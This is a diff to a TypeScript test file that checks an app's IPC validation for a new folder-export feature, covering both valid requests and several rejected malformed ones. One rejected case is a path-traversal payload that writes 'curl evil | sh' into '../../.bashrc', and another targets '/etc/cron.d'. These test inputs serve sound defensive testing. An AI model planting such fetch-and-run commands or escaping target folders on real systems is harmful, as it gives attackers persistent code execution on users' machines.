@@ -29,6 +29,7 @@ function stubHandlers(overrides: Partial<HostHandlers> = {}): HostHandlers {
     saveDocument: vi.fn(async ({ path }) => ({ status: 'saved' as const, file: { path, name: 'a.stowage' } })),
     saveDocumentAs: vi.fn(async () => ({ status: 'canceled' as const })),
     exportFile: vi.fn(async () => ({ status: 'canceled' as const })),
+    exportFolder: vi.fn(async ({ suggestedName }) => ({ status: 'saved' as const, file: { path: `/exports/${suggestedName}`, name: suggestedName } })),
     listRecent: vi.fn(async () => []),
     clearRecent: vi.fn(async () => null),
     writeDraft: vi.fn(async () => null),
@@ -76,6 +77,35 @@ describe('registerHostHandlers', () => {
     registerHostHandlers(ipc, handlers, senderCheck);
     await expect(invoke('saveDocument', trusted, payload)).rejects.toThrow(/saveDocument was refused/);
     expect(handlers.saveDocument).not.toHaveBeenCalled();
+  });
+
+  it('passes a valid exportFolder request on file:export-folder', async () => {
+    const { ipc, listeners, invoke } = fakeIpc();
+    const handlers = stubHandlers();
+    registerHostHandlers(ipc, handlers, senderCheck);
+    expect(listeners.has('file:export-folder')).toBe(true);
+    const request = { suggestedName: 'payments', files: [{ path: 'bin/app.ts', content: 'new App();' }, { path: 'cdk.json', content: '{}' }] };
+    await expect(invoke('exportFolder', trusted, request)).resolves.toEqual({ status: 'saved', file: { path: '/exports/payments', name: 'payments' } });
+    expect(handlers.exportFolder).toHaveBeenCalledWith(request);
+  });
+
+  it.each([
+    ['a folder name with a separator', { suggestedName: '../payments', files: [{ path: 'a.ts', content: '' }] }, /suggestedName: must be a plain folder name/],
+    ['an empty folder name', { suggestedName: '', files: [{ path: 'a.ts', content: '' }] }, /suggestedName/],
+    ['a path leaving the folder', { suggestedName: 'app', files: [{ path: '../../.bashrc', content: 'curl evil | sh' }] }, /files\.0\.path: must be a relative path inside the folder/],
+    ['an absolute path', { suggestedName: 'app', files: [{ path: '/etc/cron.d/x', content: '' }] }, /files\.0\.path/],
+    ['a Windows path', { suggestedName: 'app', files: [{ path: 'lib\\..\\..\\x', content: '' }] }, /files\.0\.path/],
+    ['a duplicate path', { suggestedName: 'app', files: [{ path: 'a.ts', content: '' }, { path: 'A.ts', content: '' }] }, /files\.1\.path: “A\.ts” is listed twice/],
+    ['no files', { suggestedName: 'app', files: [] }, /files/],
+    ['binary content', { suggestedName: 'app', files: [{ path: 'a.bin', content: new Uint8Array(4) }] }, /files\.0\.content/],
+    ['an extra field', { suggestedName: 'app', files: [{ path: 'a.ts', content: '' }], overwrite: true }, /overwrite/],
+  ])('rejects an exportFolder request with %s before the handler runs', async (_name, payload, message) => {
+    const { ipc, invoke } = fakeIpc();
+    const handlers = stubHandlers();
+    registerHostHandlers(ipc, handlers, senderCheck);
+    await expect(invoke('exportFolder', trusted, payload)).rejects.toThrow(message);
+    await expect(invoke('exportFolder', trusted, payload)).rejects.toThrow(/^exportFolder was refused: /);
+    expect(handlers.exportFolder).not.toHaveBeenCalled();
   });
 
   it('rejects extra arguments', async () => {
